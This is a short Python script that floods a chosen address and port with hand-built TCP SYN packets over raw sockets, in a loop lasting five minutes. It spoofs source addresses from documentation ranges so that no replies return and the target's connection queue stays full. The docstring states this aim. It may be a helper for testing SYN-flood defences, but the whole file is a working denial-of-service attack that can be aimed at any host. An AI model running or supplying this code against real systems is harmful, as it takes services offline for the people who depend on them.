#!/usr/bin/python3
"""half_open.py ADDRESS PORT: SYNs from a network that answers nothing, so that the SYN queue stays full.

The network is 192.0.2.0/24 or 2001:db8::/120, of the address's family. (RFC 5737, RFC 3849)
"""

import ipaddress
import itertools
import random
import socket
import struct
import sys
import time

SECONDS = 300


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def header(source: bytes, destination: bytes) -> bytes:
    """Of the network layer, for a TCP segment without options or data."""
    if len(source) == 4:
        return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, destination)
    return struct.pack("!IHBB16s16s", 6 << 28, 20, socket.IPPROTO_TCP, 64, source, destination)


def syn(source: bytes, destination: bytes, port: int) -> bytes:
    ports = struct.pack("!HHII", random.randint(1024, 65535), port, random.getrandbits(32), 0)
    rest = struct.pack("!BBHHH", 5 << 4, 0x02, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!II", 20, socket.IPPROTO_TCP)
    summed = struct.pack("!BBHHH", 5 << 4, 0x02, 64240, checksum(pseudo + ports + rest), 0)
    return header(source, destination) + ports + summed


def main() -> None:
    address, port = ipaddress.ip_address(sys.argv[1]), int(sys.argv[2])
    network = ipaddress.ip_network("192.0.2.0/24" if address.version == 4 else "2001:db8::/120")
    family = socket.AF_INET if address.version == 4 else socket.AF_INET6
    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("ready", flush=True)
    end = time.monotonic() + SECONDS
    for number in itertools.count():
        if time.monotonic() > end:
            break
        source = network.network_address + 1 + number % (network.num_addresses - 2)
        raw.sendto(syn(source.packed, address.packed, port), (str(address), 0))
        time.sleep(0.005)


main()
